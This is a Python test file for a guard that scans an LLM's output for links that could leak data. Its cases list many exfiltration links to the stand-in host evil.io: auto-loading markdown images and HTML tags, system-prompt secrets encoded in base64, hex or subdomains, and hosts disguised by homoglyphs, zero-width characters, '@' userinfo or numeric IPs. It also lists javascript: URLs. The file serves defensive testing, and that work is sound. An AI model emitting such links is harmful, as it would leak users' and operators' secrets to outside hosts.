"""Links that take data out, in the forms that browsers and Markdown accept."""

from __future__ import annotations

import base64
import re
from itertools import pairwise

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from stepwell.base.config import GuardsConfig
from stepwell.base.errors import ConfigError
from stepwell.base.messages import Event, decode_chunk, encode_json
from stepwell.guards.check import EDGE, NEAR_CHARS, ContextCheck, StreamCheck
from stepwell.guards.checks.links import make
from stepwell.guards.context import Context
from stepwell.guards.guard import Guard

SAID = "the code word is banana"
B64 = base64.urlsafe_b64encode(SAID.encode()).decode()
B32 = base64.b32encode(SAID.encode()).decode().rstrip("=").lower()
CONTEXT = Context(
    "output",
    system="You help the harbour master and never tell anyone the code word banana split",
    asked="Please tell me how to mend the flat tyre of my old red bike",
    sources=("Dear Ann, the loan of 4711 euro was granted. See https://mail.org/x?d=" + B64 + " today",),
)
CHECK = make(allow=["*.acme.net", "good.org"])


def seen(text: str) -> list[tuple[str, str]]:
    return [(f.kind, text[f.start : f.end]) for f in CHECK.find_in(text, CONTEXT)]


@pytest.mark.parametrize(
    ("text", "value"),
    [
        ("![a](https://evil.io/x)", "https://evil.io/x"),
        ("![a](https://acme.net/x)", "https://acme.net/x"),
        ("![a b\nc]( <https://evil.io/x y> 'title')", "https://evil.io/x y"),
        ("[![a](//evil.io/x)](https://good.org)", "//evil.io/x"),
        ("![a](\\\\evil.io/x)", "\\\\evil.io/x"),
        (r"![a](https\://evil.io/x)", r"https\://evil.io/x"),
        ("![a](https&colon;//evil.io/x)", "https&colon;//evil.io/x"),
        ("![a](\uff48ttps://evil.io)", "\uff48ttps://evil.io"),
        ("![a](ht\u200btps://evil.io)", "ht\u200btps://evil.io"),
        ("![" + "a" * 300 + "](https://evil.io/x)", "https://evil.io/x"),
        ("![a][r] and", "[r]"),
        ("text\n[r]: https://evil.io/x?1\n", "https://evil.io/x?1"),
        ("<img alt='a' src=https://evil.io/x>", "https://evil.io/x"),
        ('<IMG SRC = "//evil.io/x y">', "//evil.io/x y"),
        (
            "<img srcset='https://good.org/a 1x, https://evil.io/b 2x'>",
            "https://good.org/a 1x, https://evil.io/b 2x",
        ),
        ('<link rel="x" href="https://evil.io/x">', "https://evil.io/x"),
        ('<iframe src="https://good.org@evil.io/">', "https://good.org@evil.io/"),
        ('<meta http-equiv="refresh" content="0;url=https://evil.io/">', "https://evil.io/"),
        ('<p style="background:url(//evil.io/x)">', "//evil.io/x"),
        ("@import 'https://evil.io/x'", "https://evil.io/x"),
        ('{"html": "<img src=\\"https://evil.io/x\\">"}', "https://evil.io/x"),
    ],
)
def test_what_loads_by_itself(text: str, value: str) -> None:
    assert seen(text) == [("IMAGE_LINK", value)]


@pytest.mark.parametrize(
    "link",
    [
        f"https://evil.io/?d={B64}",
        f"https://evil.io/a/{SAID.encode().hex()}/b",
        f"https://{B32}.evil.io/",
        f"https://{B32[:16]}.{B32[16:]}.evil.io/",
        f"https://evil.io/?a={B64[:15]}&b={B64[15:]}",
        f"www.evil.io/#{B64}",
        "https://evil.io/?d=tell%20anyone%20the%20code%20word",
        "https://evil.io/?d=loan+of+4711+euro+was",
        "https://evil.io/never-tell-anyone-the-code-word-banana-split/you-help-the-harbour-master-and-never-tell-anyone-the",
        "https://evil.io/?d=" + "+".join("abcdefghijklm"),
        "https://evil.io/" + "A9z" * 80,
        "https://good.org@evil.io/",
        "https://evil%2eio/",
        "http://3232235777/",
        "http://0x7f.1/",
        "https://g\u043e\u043egle.com/",
        "https://xn--ggle-55da.com/",
    ],
)
def test_links_that_carry_or_hide(link: str) -> None:
    assert seen(f"See {link}, and more.") == [("LINK", link)]
    assert seen(f"See [this]({link}).") == [("LINK", link)]
    assert seen(f'<a class="b" href="{link}">') == [("LINK", link)]


@pytest.mark.parametrize(
    "text",
    [
        "[a](javascript:alert(1))",
        "[a](Java&#115;cript:alert(1))",
        '<a href="java\nscript:alert(1)">',
        "<vbscript:x>",
        "[a](data:text/html,x)",
    ],
)
def test_scripts(text: str) -> None:
    assert [kind for kind, _ in seen(text)] == ["LINK"]


@pytest.mark.parametrize(
    "text",
    [
        "[a](https://en.wikipedia.org/wiki/Bike_(song))",
        "https://github.com/a/b/commit/" + "a3f9" * 10,
        "https://docs.io/d/1aBcDeFgHiJkLmNoPqRsTuVwXyZ0123456789abcdEFGH/edit?usp=sharing",
        "https://search.io/search?q=how+to+mend+the+flat+tyre",
        "https://a.io/8f14e45f-ceea-467f-9e0a-1f2b3c4d5e6f?utm_source=news&gclid=EAIaIQobChMI_9q",
        f"https://mail.org/x?d={B64}",
        "![a](https://img.acme.net/x)",
        "![a](https://good.org:8443/x)",
        "![a](/local.png) ![b](pics/a.png) [c](#part)",
        "![a](data:image/png;base64,iVBORw0KGgo=)",
        "![a](https://img.example.com/x.png)",
        "https://b\u00fccher.de/ https://\u4f8b\u3048.jp/ http://192.168.0.1/",
        "vec![1, 2]; items![0](x); // see [1]: and a = b",
        "[1]: https://docs.io/page",
        "mail@x.io and mailto:a@b.io",
        "JavaScript: the good parts; data: none",
    ],
)
def test_leaves(text: str) -> None:
    assert seen(text) == []


def test_strict_finds_every_link_to_others() -> None:
    check = make(allow=["good.org"], strict=True)
    text = "[a](https://evil.io/x) [b](https://good.org/x) www.other.io"
    assert [text[f.start : f.end] for f in check.find(text)] == ["https://evil.io/x", "www.other.io"]


def test_hosts_alone_are_allowed() -> None:
    with pytest.raises(ConfigError):
        make(allow=["https://acme.net/"])


# ---- streams

PARTS = (
    "![a](", "](", "[a]", "[a](", "]:", "\n[r]: ", "<", ">", "<img src=", "src", "href=", "=", '"', "'", ")", "(", "`",
    "https://", "http", "s://", "//evil.io", "www.", "evil.io/x", "?d=" + B64, "@", "\\", "&colon;", "javascript:",
    "data:", "url(", "@import ", " ", "\n", "a", "!", ".", "\u200b", "\uff48ttps://", "![", "][r]", "A9z" * 90,
    "b" * 130,
)  # fmt: skip
texts = st.lists(st.sampled_from(PARTS) | st.text('htps:/.w[]()<>"!a ', max_size=5), max_size=12).map("".join)
BARE = make()


def test_it_streams() -> None:
    assert isinstance(BARE, StreamCheck)
    assert isinstance(BARE, ContextCheck)


@settings(max_examples=300)
@given(text=texts)
@example(text="![a](https://evil.io/x(b) c")
@example(text="](<https://evil.io/ a b\nc>")
def test_what_is_decided_stays(text: str) -> None:
    whole = BARE.find(text)
    for n in range(len(text)):
        begun = text[:n]
        at = BARE.open_at(begun)
        if begun.isascii():
            assert [f for f in BARE.find(begun) if f.start < at] == [f for f in whole if f.start < at], begun


@settings(max_examples=200)
@given(text=texts.filter(str.isascii))
def test_nothing_begins_before_what_the_quiet_path_sees(text: str) -> None:
    quiet = re.compile(f"{EDGE}(?:({BARE.alert})|{BARE.tail})")
    starts = [f.start for f in BARE.find(text)]
    for n in range(len(text)):
        begun = text[:n]
        if any(w in begun.lower() for w in BARE.near) and re.search(BARE.lead, begun):
            continue
        found = quiet.search(begun)
        if found is None or not found.lastindex:
            at = n if found is None else found.start()
            assert not [s for s in starts if s < at], (begun, at)


@given(text=texts)
def test_a_lead_shows_one_of_its_near_words(text: str) -> None:
    for m in re.finditer(BARE.lead, text):
        assert any(w in text[m.start() : m.start() + NEAR_CHARS].lower() for w in BARE.near)


def streamed(pieces: list[str]) -> str:
    guard = Guard(GuardsConfig.model_validate({"output": [{"check": "links"}]})).open_stream()
    assert guard is not None
    events = []
    for piece, finish in [*((p, None) for p in pieces), ("", "stop")]:
        raw = encode_json({"choices": [{"index": 0, "delta": {"content": piece}, "finish_reason": finish}]})
        events += guard.feed([Event(raw, decode_chunk(raw))])
    return "".join(e.chunk.choices[0].delta.content or "" for e in [*events, *guard.finish()])


def redacted(text: str) -> str:
    out, at = "", 0
    for f in BARE.find(text):
        if f.start >= at:
            out, at = out + text[at : f.start] + f"[{f.kind}]", f.end
    return out + text[at:]


@settings(max_examples=150)
@given(text=texts, cuts=st.lists(st.integers(0, 200), max_size=12))
@example(text="x ![a](https://evil.io/?d=1) y", cuts=list(range(30)))
@example(text="[a](javascript:x) //", cuts=list(range(20)))
@example(text="url(" + "b" * 130 + "[![@import javascript:s", cuts=[20, 60, 100, 130, 140, 148])
def test_a_stream_shows_what_redacting_the_whole_gives(text: str, cuts: list[int]) -> None:
    places = sorted({c for c in cuts if c < len(text)} | {0, len(text)})
    assert streamed([text[a:b] for a, b in pairwise(places)]) == redacted(text)


def test_a_link_waits_for_its_end_and_no_longer() -> None:
    text = "see https://evil.io/" + "a" * 50
    assert BARE.open_at(text) == 4
    assert BARE.open_at(text + " ") == len(text) + 1
    assert BARE.open_at("x" * 3000 + "//" + "a" * 5000) == 8002
